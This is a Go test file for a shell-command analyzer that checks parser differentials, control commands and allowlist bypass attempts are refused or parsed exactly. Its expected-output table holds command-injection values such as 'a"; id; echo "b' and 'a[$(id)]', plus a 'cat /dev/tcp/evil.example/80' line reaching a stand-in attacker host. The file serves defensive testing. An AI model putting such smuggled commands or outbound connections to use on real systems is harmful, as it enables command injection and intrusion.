package analyzer_test

import (
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"gavel"
)

// differential is a text in which a parser hides the command hit from view.
type differential struct {
	ID     string `json:"id"`
	Script string `json:"script"`
}

func TestDifferentialsAreRefused(t *testing.T) {
	t.Parallel()
	seen := map[string]bool{}
	for _, d := range lines[differential](t, "testdata/parser-differentials.jsonl") {
		seen[d.ID[:3]] = true
		for _, shell := range []string{"bash", "dash", "mksh"} {
			exec := analyze(t, claims(shell, ":", "echo", "hit", "let", "coproc", "shopt", "wait"), d.Script)
			assert.False(t, exec.Parsed, "%s in %s: %q became %q", d.ID, shell, d.Script, argvs(exec))
		}
	}
	for _, class := range strings.Fields("P01 P02 P03 P04 P05 P06 P07 P08 P09 P10 P11 P12 P13 P14 P15") {
		assert.True(t, seen[class], "no case of class %s", class)
	}
}

func TestControlsAreRefusedOrExact(t *testing.T) {
	t.Parallel()
	exact := map[string][][]string{
		"K001": {{"echo", `a"; id; echo "b`}},
		"K002": {{"echo", `a'; id; echo `}},
		"K006": {{"test", "1", "-eq", "a[$(id)]"}},
		"K005": {{"ulimit", "-n", "a[$(id)]"}},
		"K008": {{"tr", "xnid"}},
		"K009": {{"ls"}},
		"K010": {{"cd", "-P", "--", "-"}, {"ls"}},
		"K011": {{"cat", "/dev/tcp/evil.example/80"}},
		"K014": {{"test", "a", ">", "f"}},
		"K015": {{"awk", "$1 > 5", "f"}},
		"K016": {{"echo", "a > b"}},
	}
	type control struct {
		ID      string   `json:"id"`
		Command string   `json:"command"`
		Bins    []string `json:"bins"`
	}
	for _, c := range lines[control](t, "testdata/parser-controls.jsonl") {
		exec := analyze(t, claims("bash", c.Bins...), c.Command)
		if want, ok := exact[c.ID]; ok {
			assert.Equal(t, want, argvs(exec), "%s: %q, refused for %+v", c.ID, c.Command, exec.Refusal)
		} else {
			assert.False(t, exec.Parsed, "%s: %q became %q", c.ID, c.Command, argvs(exec))
		}
	}
}

// attack is a command that must not run although every program that it seems to
// consist of is allowed with any argument, when Model is "any".
type attack struct {
	ID      string   `json:"id"`
	Command string   `json:"command"`
	Class   string   `json:"class"`
	Allowed []string `json:"allowed_bins"`
	Dialect string   `json:"dialect"`
	Model   string   `json:"model"`
}

// TestAttacks holds the list of attacks that reading the shell's grammar cannot
// settle: they are plain commands, and what their programs do is dangerous. The
// list is exact, so that it changes with whatever opens or closes one.
func TestAttacks(t *testing.T) {
	t.Parallel()
	file, err := os.ReadFile("testdata/bypass-open.txt")
	require.NoError(t, err)
	want := strings.Fields(string(file))
	got := []string{}
	for _, a := range lines[attack](t, "testdata/bypass.jsonl") {
		if a.Model == "any" && slips(t, a) {
			got = append(got, a.ID+":"+a.Class)
			t.Logf("%s %s %q", a.ID, a.Class, a.Command)
		}
	}
	slices.Sort(got)
	assert.Equal(t, want, got)
}

// slips reports whether an attack comes out as allowed programs only.
func slips(t *testing.T, a attack) bool {
	shell := a.Dialect
	if shell == "bash5.3" {
		shell = "bash"
	}
	exec := analyze(t, claims(shell, a.Allowed...), a.Command)
	return exec.Parsed && !slices.ContainsFunc(exec.Segments, func(s gavel.Segment) bool {
		return s.Opaque != "" || !s.Executable.Found || !slices.Contains(a.Allowed, s.Executable.Name)
	})
}
